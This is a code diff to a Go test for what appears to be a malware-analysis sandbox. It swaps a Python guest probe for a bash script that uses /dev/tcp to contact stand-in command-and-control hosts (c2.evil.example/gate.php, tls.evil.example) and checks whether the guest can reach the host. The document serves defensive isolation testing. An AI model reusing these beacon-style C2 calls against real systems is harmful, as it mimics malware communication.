@@ -3,6 +3,7 @@ package daemon
 import (
 	"bytes"
 	"context"
+	"crypto/tls"
 	"fmt"
 	"io"
 	"net"
@@ -20,44 +21,57 @@ import (
 	"github.com/scalemalnet/scalemalnet/orchestrator/vm"
 )
 
-// netProbe is the guest sample of TestNetworkIsolated (python3 is in the
-// Debian guest): it resolves a name, makes an HTTP request and a TLS
-// connection to it, then tries to reach the host through every address it
-// could have: the user-mode gateway (the host's loopback in user mode), the
-// host's own addresses, its own 127.0.0.1 and a public address. Each probe
-// sends an HTTP request and prints the first line of what answered.
-const netProbe = `import socket, ssl, sys, http.client
-def p(*a):
-    print(*a, flush=True)
-try:
-    p("resolved", socket.gethostbyname("c2.evil.example"))
-except Exception as e:
-    p("resolve failed", e)
-try:
-    c = http.client.HTTPConnection("c2.evil.example", 80, timeout=15)
-    c.request("GET", "/gate.php?id=42", headers={"User-Agent": "smn-probe"})
-    r = c.getresponse()
-    p("http", r.status, r.read().decode().strip())
-except Exception as e:
-    p("http failed", e)
-try:
-    s = socket.create_connection(("tls.evil.example", 443), timeout=15)
-    ssl.create_default_context().wrap_socket(s, server_hostname="tls.evil.example")
-    p("tls handshake completed")
-except Exception as e:
-    p("tls failed", type(e).__name__)
-port = int(sys.argv[1])
-for host in sys.argv[2:]:
-    try:
-        s = socket.create_connection((host, port), timeout=10)
-        s.sendall(b"GET /probe HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
-        s.settimeout(10)
-        data = s.recv(200)
-        s.close()
-        p("probe", host, "answered:", data.split(b"\r\n")[0].decode(errors="replace"), "|", data.split(b"\r\n\r\n")[-1].decode(errors="replace").strip())
-    except Exception as e:
-        p("probe", host, "failed:", type(e).__name__)
+// netProbe is the guest sample of TestNetworkIsolated, a bash script (bash
+// starts in a fraction of python3's time under TCG): it resolves a name
+// (getent, glibc's resolver), makes an HTTP request to it and sends a TLS
+// ClientHello (made by crypto/tls, with its SNI) through bash's /dev/tcp,
+// then tries to reach the host through every address it could have: the
+// user-mode gateway (the host's loopback in user mode), the host's own
+// addresses, its own 127.0.0.1 and a public address. Each probe sends an
+// HTTP request and prints the first line and the body of what answered.
+func netProbe(t *testing.T) string {
+	a, b := net.Pipe()
+	defer a.Close()
+	defer b.Close()
+	go tls.Client(a, &tls.Config{ServerName: "tls.evil.example"}).Handshake()
+	b.SetDeadline(time.Now().Add(10 * time.Second))
+	buf := make([]byte, 4096)
+	n, err := b.Read(buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var hello strings.Builder
+	for _, c := range buf[:n] {
+		fmt.Fprintf(&hello, "\\x%02x", c)
+	}
+	return `#!/bin/bash
+echo "start"
+echo "resolved $(getent ahostsv4 c2.evil.example | head -n1 | cut -d' ' -f1)"
+if exec 3<>/dev/tcp/c2.evil.example/80; then
+  printf 'GET /gate.php?id=42 HTTP/1.1\r\nHost: c2.evil.example\r\nUser-Agent: smn-probe\r\n\r\n' >&3
+  r=$(timeout 15 cat <&3 | tr -d '\r')
+  echo "http $(echo "$r" | head -n1) | $(echo "$r" | tail -n1)"
+  exec 3>&-
+fi
+if exec 4<>/dev/tcp/tls.evil.example/443; then
+  printf '` + hello.String() + `' >&4
+  echo "tls answer bytes: $(timeout 15 cat <&4 | wc -c)"
+  exec 4>&-
+fi
+port=$1; shift
+for h in "$@"; do
+  if exec 5<>/dev/tcp/$h/$port; then
+    printf 'GET /probe HTTP/1.0\r\nHost: %s\r\n\r\n' "$h" >&5
+    r=$(timeout 10 cat <&5 | tr -d '\r')
+    echo "probe $h answered: $(echo "$r" | head -n1) | $(echo "$r" | tail -n1)"
+    exec 5>&-
+  else
+    echo "probe $h failed"
+  fi
+done
+echo "done"
 `
+}
 
 // TestNetworkIsolated: a job on the fake internet resolves a name, makes an
 // HTTP request and a TLS connection; the report lists the DNS query, the
@@ -94,25 +108,26 @@ func TestNetworkIsolated(t *testing.T) {
 			}
 		}
 	}
-	sample := filepath.Join(t.TempDir(), "netprobe.py")
-	if err := os.WriteFile(sample, []byte(netProbe), 0o755); err != nil {
+	sample := filepath.Join(t.TempDir(), "netprobe.sh")
+	if err := os.WriteFile(sample, []byte(netProbe(t)), 0o755); err != nil {
 		t.Fatal(err)
 	}
 
 	td := startDaemonWith(t, imageDir, 0, func(c *Config) {
 		c.Pool = []SlotConfig{{Name: "iso0", Network: vm.NetworkIsolated}}
 	})
-	job, rep := td.analyse(t, sample, jobs.Options{Timeout: 120 * time.Second, Window: time.Second, Network: jobs.NetworkIsolated, Args: append([]string{port}, probes...)})
+	job, rep := td.analyse(t, sample, jobs.Options{Timeout: 180 * time.Second, Window: time.Second, Network: jobs.NetworkIsolated, Args: append([]string{port}, probes...)})
 	out := rep.Outcome.Output
-	t.Logf("job %s on %s: machine %+v\noutput:\n%s", job.ID, rep.Machine.Slot, rep.Machine, out)
+	t.Logf("job %s on %s: machine %+v, outcome %+v, connect calls %+v\noutput:\n%s", job.ID, rep.Machine.Slot, rep.Machine, rep.Outcome, rep.Behavior.Connections, out)
 	if rep.Machine.Network != "isolated" || rep.Machine.GuestAddr != vm.UserGuestAddr {
 		t.Errorf("machine %+v", rep.Machine)
 	}
 	for _, want := range []string{
 		"resolved 10.0.2.4\n",
-		"http 200 scalemalnet fake internet\n",
-		"tls failed",
-		"probe 127.0.0.1 failed: ConnectionRefusedError\n", // the guest's own loopback: nothing listens there
+		"http HTTP/1.1 200 OK | scalemalnet fake internet\n",
+		"tls answer bytes: 0\n", // no TLS server: the responder reads the hello and closes
+		"probe 127.0.0.1 failed\n", // the guest's own loopback: nothing listens there
+		"done\n",
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("output lacks %q", want)
